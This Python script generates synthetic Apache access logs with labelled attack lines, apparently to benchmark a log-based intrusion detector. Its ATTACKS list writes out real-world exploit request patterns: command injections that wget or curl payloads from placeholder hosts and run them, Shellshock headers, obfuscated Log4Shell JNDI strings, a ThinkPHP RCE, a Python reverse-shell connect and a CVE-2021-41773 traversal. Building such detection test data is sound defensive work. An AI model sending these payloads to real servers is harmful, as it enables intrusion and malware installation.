"""Seeded generator of realistic Apache combined-format traffic for the benchmark.

    python benchmarks/generate.py OUT.log [--lines 1000000] [--seed 7] [--gzip]

Writes OUT.log (and OUT.log.gz with --gzip) plus OUT.log.labels.tsv (line number, category of
each attack line). The mix follows ../shared/reference/perf.md: timestamps over 7 days, Zipf
clients (about 4 % IPv6), ~1,200 distinct user agents, percent-encoded benign queries (UTF-8,
%20, %2F, %3A, ``50%25+off``), 17 % HTTP/2.0, look-alikes that must not be findings (curl/Wget
user agents, "how to use curl" searches, /docs/perl-one-liners, 404 scans), 0.1 % Apache
oddities (``"-" 408``, a TLS handshake logged as ``\\x16\\x03\\x01``, MGLNDD) and ~0.2 % attacks
in 16 families, with obfuscated variants.
"""

from __future__ import annotations

import argparse
import gzip
import random
import shutil
from datetime import datetime, timedelta, timezone

TZ = timezone(timedelta(hours=1))
START = datetime(2026, 11, 20, 0, 0, 0, tzinfo=TZ)
WORDS = (
    "apache",
    "egress",
    "firewall",
    "tutorial",
    "price",
    "café",
    "münchen",
    "review",
    "linux",
    "nginx",
    "python",
    "pandas",
    "docker",
    "backup",
    "password",
    "reset",
    "winter",
    "sale",
    "shoes",
    "blue",
)


def user_agents(rnd: random.Random) -> list[str]:
    uas = []
    for _ in range(700):
        v = rnd.randint(100, 131)
        os_ = rnd.choice(
            [
                "Windows NT 10.0; Win64; x64",
                "Macintosh; Intel Mac OS X 10_15_7",
                "X11; Linux x86_64",
                "Linux; Android 14; Pixel 8",
                "iPhone; CPU iPhone OS 17_5 like Mac OS X",
            ]
        )
        uas.append(
            f"Mozilla/5.0 ({os_}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{v}.0.{rnd.randint(1000, 6999)}."
            f"{rnd.randint(10, 250)} Safari/537.36"
        )
    for _ in range(300):
        v = rnd.randint(100, 133)
        uas.append(f"Mozilla/5.0 (X11; Linux x86_64; rv:{v}.0) Gecko/20100101 Firefox/{v}.0")
    for _ in range(150):
        uas.append(
            f"Mozilla/5.0 (Macintosh; Intel Mac OS X 14_{rnd.randint(0, 7)}) AppleWebKit/605.1.15 (KHTML, like "
            f"Gecko) Version/{rnd.randint(15, 18)}.{rnd.randint(0, 6)} Safari/605.1.15"
        )
    uas += [
        f"Mozilla/5.0 (compatible; {b}/{rnd.randint(1, 3)}.{rnd.randint(0, 9)}; +https://{b.lower()}.example/bot)"
        for b in ("Googlebot", "bingbot", "AhrefsBot", "SemrushBot", "YandexBot", "DuckDuckBot", "Applebot")
        for _ in range(4)
    ]
    uas += [f"curl/{rnd.randint(7, 8)}.{rnd.randint(0, 88)}.{rnd.randint(0, 9)}" for _ in range(10)]
    uas += [f"Wget/1.{rnd.randint(19, 24)}.{rnd.randint(0, 4)}" for _ in range(5)]
    uas += ["python-requests/2.31.0", "Go-http-client/1.1", "okhttp/4.12.0", "-"]
    return uas


def benign_path(rnd: random.Random) -> str:
    r = rnd.random()
    if r < 0.35:
        return rnd.choice(["/static/app.css", "/static/app.js", "/img/logo.png", "/favicon.ico", "/fonts/inter.woff2"])
    if r < 0.55:
        return f"/blog/{rnd.randint(2019, 2026)}/{rnd.randint(1, 12):02d}/{rnd.choice(WORDS)}-{rnd.choice(WORDS)}"
    if r < 0.68:
        q = "+".join(rnd.choice(WORDS) for _ in range(rnd.randint(1, 4)))
        q = q.replace("café", "caf%C3%A9").replace("münchen", "m%C3%BCnchen")
        return f"/search?q={q}&page={rnd.randint(1, 9)}"
    if r < 0.76:
        return f"/products?id={rnd.randint(1, 99999)}&sort={rnd.choice(['price', 'name', 'date'])}"
    if r < 0.82:
        return f"/login?next=https%3A%2F%2Fwww.example.org%2Faccount%2F{rnd.randint(1, 999)}%3Ftab%3Dorders"
    if r < 0.86:
        return f"/api/v1/items?filter=name%3A{rnd.choice(WORDS)}%20AND%20stock%3E{rnd.randint(0, 9)}"
    if r < 0.87:  # look-alikes that must not be findings (1 % of lines)
        return rnd.choice(
            [
                "/sale?d=50%25+off",
                "/search?q=how+to+use+curl",
                "/search?q=wget+vs+curl",
                "/docs/perl-one-liners",
                "/downloads/wget-1.21.tar.gz",
                "/out?redirect=https://shop.example/",
                "/search?q=bash+-i+meaning",
                "/blog/why-curl-pipe-sh-is-risky",
            ]
        )
    if r < 0.91:
        return rnd.choice(["/wp-login.php", "/.env", "/.git/config", "/phpmyadmin/", "/admin.php", "/xmlrpc.php"])
    return f"/page/{rnd.randint(1, 5000)}"


ATTACKS: list[tuple[str, str]] = [
    ("wget-cgi", '"GET /cgi-bin/ping.cgi?host=127.0.0.1;wget%20http://{ip}/{f};chmod%20777%20{f};./{f} HTTP/1.1"'),
    ("mozi-shell", '"GET /shell?cd+/tmp;rm+-rf+*;wget+ {host}/{f};sh+/tmp/{f}"'),
    (
        "netgear",
        '"GET /setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://{ip}:8088/Mozi.m+-O+'
        '/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1 HTTP/1.0"',
    ),
    ("gpon", '"POST /GponForm/diag_Form?images/ HTTP/1.1"'),
    (
        "tftp",
        '"GET /cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(cd%20/tmp;tftp%20-g%20-r%20{f}%20'
        '{ip};chmod%20777%20{f};./{f}) HTTP/1.1"',
    ),
    (
        "shellshock-ua",
        '"GET /cgi-bin/status HTTP/1.1" 404 493 "-" "() {{ :; }}; /bin/bash -c \\"wget http://{ip}/{f} -O '
        '/tmp/{f}; sh /tmp/{f}\\""',
    ),
    (
        "shellshock-referer",
        '"GET /cgi-bin/test.cgi HTTP/1.1" 200 120 "() {{ :;}}; /bin/bash -c \\"curl -s http://{host}/'
        '{f} | sh\\"" "Mozilla/5.0"',
    ),
    ("log4shell", '"GET /?x=${{jndi:ldap://{ip}:1389/Exploit}} HTTP/1.1"'),
    (
        "log4shell-obf",
        '"GET /api/login HTTP/1.1" 401 61 "-" "${{${{lower:j}}${{upper:n}}di:${{lower:l}}dap://{host}:1389/a}}"',
    ),
    ("log4shell-enc", '"GET /search?q=%24%7Bjndi%3Aldap%3A%2F%2F{ip}%3A1389%2Fa%7D HTTP/1.1"'),
    ("double-encoded", '"GET /cgi-bin/x.cgi?c=%253Bwget%2520http%253A%252F%252F{ip}%252F{f} HTTP/1.1"'),
    ("letter-encoded", '"GET /index.php?cmd=%77%67%65%74%20http%3A%2F%2F{ip}%2F{f} HTTP/1.1"'),
    (
        "thinkphp",
        '"GET /index.php?s=/Index/\\\\think\\\\app/invokefunction&function=call_user_func_array&vars[0]=system'
        '&vars[1][]=wget%20http://{ip}/{f}%20-O%20/tmp/{f} HTTP/1.1"',
    ),
    ("phpunit", '"POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1"'),
    (
        "perl-python",
        '"GET /cgi-bin/a.cgi?x=;python%20-c%20%27import%20socket,os;s=socket.socket();s.connect((%22{ip}%22,'
        '4444))%27 HTTP/1.1"',
    ),
    ("cve-2021-41773", '"POST /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh HTTP/1.1"'),
]


def ipv4(rnd: random.Random) -> str:
    return f"{rnd.randint(1, 223)}.{rnd.randint(0, 255)}.{rnd.randint(0, 255)}.{rnd.randint(1, 254)}"


def client(rnd: random.Random, pool: list[str]) -> str:
    return pool[min(int(rnd.paretovariate(1.1)) - 1, len(pool) - 1)]


def generate(path: str, lines: int, seed: int) -> tuple[int, int]:
    rnd = random.Random(seed)
    uas = user_agents(rnd)
    pool = [
        ipv4(rnd) if rnd.random() > 0.04 else f"2001:db8:{rnd.randint(0, 0xFFFF):x}::{rnd.randint(1, 0xFFFF):x}"
        for _ in range(40_000)
    ]
    rnd.shuffle(pool)
    attackers = [ipv4(rnd) for _ in range(262)]
    step = timedelta(days=7) / lines
    attacks = 0
    with open(path, "w", encoding="utf-8", newline="\n") as out, open(path + ".labels.tsv", "w") as labels:
        labels.write("line\tcategory\tclient\n")
        for i in range(1, lines + 1):
            ts = (START + step * i).strftime("[%d/%b/%Y:%H:%M:%S %z]")
            r = rnd.random()
            if r < 0.002:
                cat, tpl = rnd.choice(ATTACKS)
                who = rnd.choice(attackers)
                body = tpl.format(
                    ip=ipv4(rnd),
                    host=f"dl{rnd.randint(1, 99)}.bad-{rnd.randint(1, 9)}.example",
                    f=rnd.choice(["x86", "mips", "arm7", "jaws", "bins.sh", "t.sh"]),
                )
                if body.count('"') <= 2:
                    body += f' {rnd.choice([200, 400, 404])} {rnd.randint(0, 999)} "-" "{rnd.choice(uas)}"'
                out.write(f"{who} - - {ts} {body}\n")
                labels.write(f"{i}\t{cat}\t{who}\n")
                attacks += 1
                continue
            if r < 0.003:
                odd = rnd.choice(
                    [
                        '"-" 408 0 "-" "-"',
                        '"\\x16\\x03\\x01" 400 226 "-" "-"',
                        '"MGLNDD_198.51.100.1_443" 400 226 "-" "-"',
                    ]
                )
                out.write(f"{client(rnd, pool)} - - {ts} {odd}\n")
                continue
            method = "GET" if rnd.random() < 0.9 else rnd.choice(["POST", "HEAD"])
            proto = "HTTP/2.0" if rnd.random() < 0.17 else "HTTP/1.1"
            status = rnd.choices([200, 304, 301, 404, 500], [80, 8, 3, 8, 1])[0]
            ref = rnd.choice(
                [
                    "-",
                    "-",
                    "https://www.example.org/",
                    "https://www.google.com/search?q=egress%20firewall",
                    f"https://www.example.org/blog/{rnd.choice(WORDS)}",
                ]
            )
            out.write(
                f'{client(rnd, pool)} - - {ts} "{method} {benign_path(rnd)} {proto}" {status} '
                f'{rnd.randint(0, 80000)} "{ref}" "{rnd.choice(uas)}"\n'
            )
    return lines, attacks


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("out")
    ap.add_argument("--lines", type=int, default=1_000_000)
    ap.add_argument("--seed", type=int, default=7)
    ap.add_argument("--gzip", action="store_true", help="also write OUT.gz (gzip -6)")
    a = ap.parse_args()
    n, attacks = generate(a.out, a.lines, a.seed)
    if a.gzip:
        with (
            open(a.out, "rb") as src,
            open(a.out + ".gz", "wb") as raw,
            gzip.GzipFile(fileobj=raw, mode="wb", compresslevel=6, mtime=0) as dst,
        ):
            shutil.copyfileobj(src, dst, 1 << 20)
    print(f"wrote {a.out}: {n:,} lines, {attacks:,} attack lines ({attacks / n:.2%})")


if __name__ == "__main__":
    main()
